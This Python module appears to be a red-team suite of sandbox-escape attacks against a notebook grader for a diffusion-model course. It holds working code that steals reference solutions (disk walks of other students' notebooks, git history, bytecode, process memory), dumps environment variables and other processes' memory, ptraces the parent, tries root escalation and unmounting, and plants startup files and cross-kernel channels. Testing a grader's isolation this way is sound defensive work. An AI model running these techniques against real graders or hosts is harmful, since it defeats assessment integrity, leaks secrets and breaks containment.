"""Attacks that look for the answer, for other people's files, or for a way out."""

import json

from attack_kit import (
    BOUND,
    PORT,
    Attack,
    Notebook,
    dedent,
    defining,
    find,
    on_define,
    plain,
    to_bytes,
)

# Any function that is not the student's own and gives a right-looking answer is used.
USE = """
def use(found):
    def q_sample(x0, k, eps, schedule):
        return found(x0, k, eps, schedule)
    globals()['q_sample'] = q_sample
def try_all(candidates):
    import torch
    beta = torch.tensor([0.0, 0.1, 0.2, 0.3], dtype=torch.float64)
    table = Schedule(beta, torch.cumprod(1 - beta, 0))
    x, k = torch.ones(2, 3, dtype=torch.float64), torch.tensor([1, 3])
    want = table.alpha_bar[k].sqrt()[:, None] * x
    for one in candidates:
        try:
            if torch.allclose(one(x, k, x * 0, table), want):
                return use(one)
        except BaseException:
            pass
def from_text(text):
    import ast
    space = dict(globals())
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.FunctionDef) and node.name == 'q_sample':
            node.decorator_list = []
            exec(compile(ast.unparse(node), 'x', 'exec'), space)
            try_all([space['q_sample']])
"""

REFERENCE = {  # name -> (code, note)
    "import": (
        "from coursekit.theory.ddpm import q_sample as right; try_all([right])",
        "the package's own function",
    ),
    "reload": (
        """
        import importlib, coursekit.theory.ddpm as m
        sys.dont_write_bytecode = True
        importlib.invalidate_caches()
        for name in [n for n in sys.modules if n.startswith('coursekit')]:
            del sys.modules[name]
        m = importlib.import_module('coursekit.theory.ddpm')
        try_all([m.q_sample])
        """,
        "the module, loaded anew",
    ),
    "loader": (
        """
        import importlib.util, coursekit.theory.ddpm as m
        for get in (
            lambda: m.__loader__.get_source(m.__name__),
            lambda: m.__spec__.loader.get_data(m.__file__).decode(),
            lambda: importlib.util.find_spec(m.__name__).loader.get_source(m.__name__),
            lambda: __import__('inspect').getsource(m),
            lambda: __import__('inspect').getsource(m.q_sample),
            lambda: ''.join(__import__('linecache').getlines(m.__file__)),
            lambda: __import__('pkgutil').get_data(m.__name__, 'ddpm.py').decode(),
            lambda: open(m.__file__).read(),
            lambda: m.__loader__.get_code(m.__name__),
        ):
            try:
                from_text(get())
            except BaseException:
                pass
        """,
        "its source, by every way that Python has",
    ),
    "linecache": (
        """
        import linecache
        for entry in list(linecache.cache.values()):
            try:
                from_text(''.join(entry[2]))
            except BaseException:
                pass
        """,
        "lines that an earlier traceback has left behind",
    ),
    "bytecode": (
        """
        import importlib.util, marshal, types, coursekit.theory.ddpm as m
        path = importlib.util.cache_from_source(m.__file__)
        code = marshal.loads(open(path, 'rb').read()[16:])
        for const in code.co_consts:
            if isinstance(const, types.CodeType) and const.co_name == 'q_sample':
                try_all([types.FunctionType(const, m.__dict__)])
        """,
        "the compiled file",
    ),
    "gc": (
        """
        import gc, types
        gc.collect()
        seen = [o for o in gc.get_objects() if isinstance(o, types.FunctionType)]
        more = [r for o in seen for r in gc.get_referents(o) if callable(r)]
        try_all([f for f in seen + more if 'sample' in getattr(f, '__name__', '')])
        """,
        "every function that is alive",
    ),
    "code-objects": (
        """
        import gc, types, coursekit.theory.ddpm as m
        def inner(code, depth=0):
            for const in code.co_consts:
                if isinstance(const, types.CodeType) and depth < 5:
                    yield const
                    yield from inner(const, depth + 1)
        for f in [o for o in gc.get_objects() if isinstance(o, types.FunctionType)]:
            for code in (f.__code__, *inner(f.__code__)):
                if code.co_name == 'q_sample' and not code.co_freevars:
                    try_all([types.FunctionType(code, m.__dict__)])
        """,
        "code objects that still hold the old body",
    ),
    "memory": (
        """
        import ctypes
        for line in open('/proc/self/maps'):
            span, rights, _, _, _, *path = line.split()
            first, last = (int(part, 16) for part in span.split('-'))
            if rights[:2] != 'rw' or path or last - first > 400 << 20:
                continue
            if time.monotonic() > STOP - 33:
                break
            data = ctypes.string_at(first, last - first)
            text = b' '.join([b'return', b'signal', b'*', b'x0', b'+', b'noise'])
            head, at = b'def ' + b'q_sample', data.find(text)
            while at >= 0:
                try:
                    from_text(data[data.rfind(head, 0, at):at + 31].decode())
                except BaseException:
                    pass
                at = data.find(text, at + 1)
        """,
        "the source, in the memory of its own process",
    ),
    "fresh-python": (
        """
        import subprocess, sys
        code = 'import inspect, coursekit.theory.ddpm as m; '
        code += 'print(inspect.getsource(m.q_sample))'
        for cwd in ('/', '@ROOT@', '/tmp'):
            done = subprocess.run([sys.executable, '-c', code], cwd=cwd, timeout=15,
                                  capture_output=True, text=True)
            from_text(done.stdout)
        """,
        "another interpreter, which nobody has blanked",
    ),
    "merged-check": (
        """
        def q_sample(x0, k, eps, schedule):
            return x0 + eps
        from coursekit.checks.cells import check
        fixed = check(q_sample)
        try_all([fixed])
        """,
        "the learner's check hands out the reference to go on with",
    ),
    "reveal": (
        """
        import io, contextlib
        from coursekit.checks import cells as checks
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            shown = checks.reveal('01.4')
        from_text(out.getvalue() or str(getattr(shown, 'data', shown)))
        """,
        "the solution that reveal() shows",
    ),
    "probe-module": (
        """
        import importlib
        m = importlib.import_module('coursekit.checks.registry')
        try_all([m.by_id('01.4').reference()])
        """,
        "the reference that the registry of exercises names",
    ),
    "files": (
        """
        import json
        count = 0
        for top, folders, names in os.walk('/'):
            folders[:] = [f for f in folders if f not in {'proc', 'sys', 'dev'}]
            if time.monotonic() > STOP - 33:
                break
            for name in names:
                if not name.endswith(('.ipynb', 'ddpm.py', 'diffusion_jump.py')):
                    continue
                try:
                    text = open(os.path.join(top, name), errors='replace').read(10**7)
                    if name.endswith('.ipynb'):
                        for c in json.loads(text)['cells']:
                            code = ''.join(c['source'])
                            if 'def q_sample' in code:
                                from_text(code)
                    elif 'def q_sample' in text:
                        from_text(text)
                except BaseException:
                    pass
        """,
        "the whole disk: solutions, other students' files, clones",
    ),
    "git": (
        """
        import subprocess
        for path in ('notebooks/solutions/01_diffusion.ipynb',
                     'coursekit/theory/ddpm.py'):
            done = subprocess.run(['git', '-C', '@ROOT@', 'show', 'HEAD:' + path],
                                  timeout=15, capture_output=True, text=True)
            if path.endswith('.py'):
                from_text(done.stdout)
            else:
                import json
                for c in json.loads(done.stdout)['cells']:
                    if 'def q_sample' in ''.join(c['source']):
                        from_text(''.join(c['source']))
        """,
        "the history of the course",
    ),
    "callers": (
        """
        import torch
        from coursekit.theory.ddpm import loss_simple
        from coursekit.theory.elbo import elbo_terms
        def by_loss(x0, k, eps, schedule):
            seen = []
            def spy(x, t):
                seen.append(x)
                return torch.zeros_like(x)
            try:
                loss_simple(spy, x0, k, eps, schedule)
            except BaseException:
                pass
            return seen[0]
        try_all([by_loss])
        """,
        "a function that calls the reference and shows what it got",
    ),
    "globals-of-others": (
        """
        import gc, types
        spaces = {id(f.__globals__): f.__globals__ for f in gc.get_objects()
                  if isinstance(f, types.FunctionType)}
        found = []
        for space in spaces.values():
            for name, value in list(space.items()):
                if name.strip('_') in {'q_sample', 'reference', 'right', 'solution'}:
                    found.append(value)
        for frame in sys._current_frames().values():
            while frame is not None:
                found += [v for v in frame.f_locals.values() if callable(v)]
                frame = frame.f_back
        try_all(found)
        """,
        "the globals of every function and the locals of every frame",
    ),
}


def _reference(name: str) -> Attack:
    code, note = REFERENCE[name]
    made = plain(_guarded(code))
    return Attack(f"reference-{name}", made, note, needs_sandbox=True)


def _guarded(code: str) -> str:
    """The cell: a wrong q_sample, then what may replace it."""
    guarded = "try:\n    pass\n"
    for line in dedent(code).splitlines():
        guarded += f"    {line}\n"
    guarded += "except BaseException as error:\n    print(error)\n"
    # the wrong q_sample comes first, so that what is found replaces it
    wrong = "def q_sample(x0, k, eps, schedule):\n    return x0 + eps\n"
    return on_define(USE).removesuffix(wrong) + wrong + guarded


SECRETS = {
    "environment": (
        """
        raise ValueError(repr(dict(os.environ)))
        """,
        "all of the environment in an error message",
    ),
    "environment-of-others": (
        """
        told = []
        for pid in os.listdir('/proc'):
            if pid.isdigit():
                for name in ('environ', 'cmdline'):
                    try:
                        text = open(f'/proc/{pid}/{name}', 'rb').read()
                        told += [w.decode('latin1') for w in text.split(b'\\0')
                                 if b'SECRET' in w or b'seed' in w]
                    except OSError:
                        pass
        raise ValueError('; '.join(told)[:400])
        """,
        "environment and command line of every process",
    ),
    "parents-memory": (
        """
        for pid in {os.getppid(), 1, *map(int, filter(str.isdigit,
                    os.listdir('/proc')))} - {0, os.getpid()}:
            with open(f'/proc/{pid}/mem', 'rb') as memory:
                for line in open(f'/proc/{pid}/maps'):
                    first = int(line.split('-')[0], 16)
                    memory.seek(first)
                    if b'SECRET' in memory.read(4096):
                        raise ValueError('SECRET found in memory')
        """,
        "the memory of the process that started it",
    ),
    "ptrace": (
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), 1} - {0, os.getpid()}:
            if libc.ptrace(16, pid, None, None) == 0:  # attach, and let go at once
                os.waitpid(pid, 0x40000000)
                libc.ptrace(17, pid, None, None)
                raise ValueError('SECRET: could trace the parent')
        """,
        "attaches to its parent as a debugger",
    ),
    "network": (
        f"""
        import socket
        told = []
        for host, port in (('127.0.0.1', {PORT}), ('::1', {PORT})):
            try:
                with socket.create_connection((host, port), timeout=1) as s:
                    s.sendall(b'stolen')
                    told.append('SECRET: connected')
            except OSError as error:
                told.append(str(error))
        raise ValueError('; '.join(told))
        """,
        "calls a listener on this machine",
    ),
    "unix-sockets": (
        """
        import socket, glob
        told = []
        places = glob.glob('/run/*/*') + glob.glob('/run/*/*/*') + glob.glob('/run/*')
        for line in open('/proc/net/unix'):
            places.append(line.split()[-1])
        for place in places[:300]:
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(0.2)
                    s.connect(place.replace('@', chr(0)))
                    if 'zygote' in place or 'docker' in place or 'dbus' in place:
                        told.append('SECRET: ' + place)
            except OSError:
                pass
        raise ValueError('; '.join(told))
        """,
        "sockets in the file system and abstract ones",
    ),
    "zygote": (
        """
        import json, socket
        order = json.dumps({'blank': [], 'key': 'x', 'home': ''}).encode() + b'\\n'
        places, told = ['/tmp/zygote', '/run/zygote'], []
        for top, folders, names in os.walk('/'):
            folders[:] = [f for f in folders if f not in {'proc', 'sys', 'usr'}]
            places += [os.path.join(top, n) for n in names if 'zygote' in n]
            places += [os.path.join(top, f, 'zygote') for f in folders]
        for place in places:
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(place)
                    s.sendall(order)
                    told.append('SECRET: an order for ' + place)
            except OSError:
                pass
        raise ValueError('; '.join(told))
        """,
        "asks the grader's own helper for a kernel with the reference",
    ),
    "siblings": (
        """
        from ipykernel.connect import get_connection_file
        own, told = get_connection_file(), []
        ends = tuple('.' + c for c in ('shell', 'control', 'iopub', 'stdin', 'json'))
        for top, folders, names in os.walk('/'):
            folders[:] = [f for f in folders if f not in {'proc', 'sys', 'usr'}]
            if top.startswith((sys.prefix, sys.base_prefix)):
                folders[:] = []
                continue
            for name in names:
                path = os.path.join(top, name)
                if name.endswith(ends) and path != own and top != '/etc':
                    told.append('SECRET: ' + path)
        for number in range(3, 128):
            try:
                if os.path.exists(f'/proc/self/fd/{number}/0.ipynb'):
                    told.append('SECRET: an open folder')
            except OSError:
                pass
        raise ValueError('; '.join(told)[:400])
        """,
        "sockets and connection files of other kernels",
    ),
    "setuid": (
        """
        import subprocess
        told = []
        for line in (['sudo', '-n', 'id'], ['su', '-c', 'id'], ['mount'],
                     ['unshare', '-Urm', 'sh', '-c', 'umount @ROOT@; ls @ROOT@']):
            try:
                done = subprocess.run(line, timeout=5, capture_output=True, text=True,
                                      stdin=subprocess.DEVNULL)
                if 'uid=0' in done.stdout or 'notebooks' in done.stdout:
                    told.append('SECRET: ' + ' '.join(line))
            except (OSError, subprocess.TimeoutExpired):
                pass
        raise ValueError('; '.join(told))
        """,
        "programs that run as root, and namespaces of its own",
    ),
    "unmount": (
        """
        import ctypes
        libc, told = ctypes.CDLL(None, use_errno=True), []
        os.makedirs('/tmp/peek', exist_ok=True)
        for flags in (0x10020000, 0x00020000):
            if libc.unshare(flags) == 0:
                for flag in (0, 2):
                    libc.umount2(b'@ROOT@', flag)
                libc.mount(b'/', b'/tmp/peek', None, 4096, None)
                for place in ('@ROOT@', '/tmp/peek' + '@ROOT@'):
                    if os.path.exists(place + '/notebooks'):
                        told.append('SECRET: ' + place)
        for number in range(3, 64):
            try:
                os.listdir(f'/proc/self/fd/{number}/notebooks')
                told.append('SECRET: open folder')
            except OSError:
                pass
        raise ValueError('; '.join(told))
        """,
        "takes the empty folder off the checkout",
    ),
    "privileges": (
        """
        import ctypes, resource
        told, libc = [], ctypes.CDLL(None, use_errno=True)
        for name in 'RLIMIT_CPU RLIMIT_NPROC RLIMIT_FSIZE RLIMIT_DATA'.split():
            try:
                which = getattr(resource, name)
                hard = resource.getrlimit(which)[1]
                resource.setrlimit(which, (hard * 2, hard * 2))
                told.append('SECRET: raised ' + name)
            except (ValueError, OSError):
                pass
        for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.nice(-5),
                    lambda: os.chroot('/'), lambda: os.sethostname('x')):
            try:
                act()
                told.append('SECRET: allowed')
            except (OSError, AttributeError):
                pass
        raise ValueError('; '.join(told))
        """,
        "higher limits, other users, better priority",
    ),
    "writes-everywhere": (
        """
        import site
        told = []
        places = ['@ROOT@', os.getcwd(), '/', '/etc', '/usr/local/lib', '/opt',
                  '/run', '/srv', '/var/lib', '/var/tmp',
                  '/dev/shm', '/tmp', os.path.expanduser('~')]
        places += [p for p in sys.path if p] + site.getsitepackages()
        places += [p + '/notebooks' for p in places[:1]] + [sys.prefix, sys.base_prefix]
        import coursekit, numpy
        places += [os.path.dirname(m.__file__) for m in (coursekit, numpy)]
        for place in places:
            try:
                open(place + '/@MARK@', 'x').close()
            except OSError:
                pass
            for name in ('coursekit/grading/types.py', 'numpy/__init__.py'):
                if os.access(place + '/' + name, os.W_OK):
                    told.append('SECRET: can write ' + name)
        raise ValueError('; '.join(told)[:400])
        """,
        "a file in every folder that Python or the grader may read later",
    ),
    "writable-folders": (
        """
        told, own = [], ('/tmp', '/var/tmp', '/dev/shm', '/proc')
        from ipykernel.connect import get_connection_file
        own = (*own, os.path.dirname(get_connection_file()))
        for top, folders, names in os.walk('/'):
            if top.startswith(own) or top.startswith(('/sys', '/usr')):
                folders[:] = []
            elif time.monotonic() > STOP - 41:
                break
            elif os.access(top, os.W_OK):
                try:
                    open(top + '/@MARK@', 'x').close()
                    os.unlink(top + '/@MARK@')
                    told.append('SECRET: can write in ' + top)
                except OSError:
                    pass
        raise ValueError('; '.join(told)[:400])
        """,
        "folders of everybody, in which something could be left for a later kernel",
    ),
    "profile": (
        """
        for home in {os.path.expanduser('~'), '/root', '/home/runner', '/'}:
            folder = home + '/.ipython/profile_default/startup'
            try:
                os.makedirs(folder, exist_ok=True)
                open(folder + '/@MARK@.py', 'x').write('q_sample = None')
            except OSError:
                pass
        for name in ('conftest.py', 'junit.xml', 'sitecustomize.py', 'torch.py'):
            open(name, 'w').write('raise SystemExit')
        """,
        "start-up files that a later kernel would run",
    ),
}


def _secret(name: str) -> Attack:
    code, note = SECRETS[name]
    return defining(f"spy-{name}", code, note, needs_sandbox=True)


# One exercise's kernel has the reference of another. What it leaves somewhere, a later
# kernel may find: every place is tried that outlives a process.
CHANNELS = """
import ctypes, marshal
libc, machine = ctypes.CDLL(None), os.uname().machine
libc.shmat.restype = ctypes.c_void_p
ADD, KEYCTL = (248, 250) if machine == 'x86_64' else (217, 219)
PLACES = ('/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', '/run', '/run/lock', '/srv',
          '/proc/sys/kernel', '/sys/fs/cgroup', os.getcwd(), os.path.expanduser('~'))
def put(data):
    for place in PLACES:
        try: open(place + '/@MARK@', 'wb').write(data)
        except OSError: pass
        try: os.close(os.open(place + '/@MARK@' + data.hex()[:200], os.O_CREAT))
        except OSError: pass
    for ring in (-3, -4, -5):
        libc.syscall(ADD, b'user', b'@MARK@', data, len(data), ring)
    key = libc.shmget(0xC0DE, 65536, 0o1666)
    at = libc.shmat(key, None, 0) if key >= 0 else None
    if at and at < 2**63: ctypes.memmove(at, data, len(data))
def got():
    for place in PLACES:
        try: yield open(place + '/@MARK@', 'rb').read()
        except OSError: pass
    for ring in (-3, -4, -5):
        key = libc.syscall(KEYCTL, 10, ring, b'user', b'@MARK@', 0)
        if key > 0:
            room = ctypes.create_string_buffer(65536)
            size = libc.syscall(KEYCTL, 11, key, room, 65536)
            if 0 < size <= 65536: yield room.raw[:size]
    key = libc.shmget(0xC0DE, 65536, 0o666)
    at = libc.shmat(key, None, 0) if key >= 0 else None
    if at and at < 2**63: yield ctypes.string_at(at, 65536)
"""
LEAVE = (
    "# exercise 01.5\n"
    + BOUND
    + dedent(CHANNELS)
    + """
import coursekit.theory.ddpm as m
put(marshal.dumps(m.q_sample.__code__))
def q_posterior(x0, xk, k, schedule):
    return x0, xk
"""
)
FIND = """
import types, coursekit.theory.ddpm as m
for data in got():
    try: try_all([types.FunctionType(marshal.loads(data), vars(m))])
    except BaseException: pass
"""


def _notes(notebook: Notebook) -> bytes:
    made = json.loads(plain(_guarded(CHANNELS + FIND))(notebook))
    find(made, "01.5")["source"] = LEAVE
    return to_bytes(made)


ATTACKS = (
    *(_reference(name) for name in REFERENCE),
    *(_secret(name) for name in SECRETS),
    *(
        Attack(
            f"notes-{which}",
            _notes,
            "one kernel leaves a reference for another, wherever it can",
            needs_sandbox=True,
            others={"01.5": 0.0},
        )
        for which in ("first", "second", "third")
    ),
)
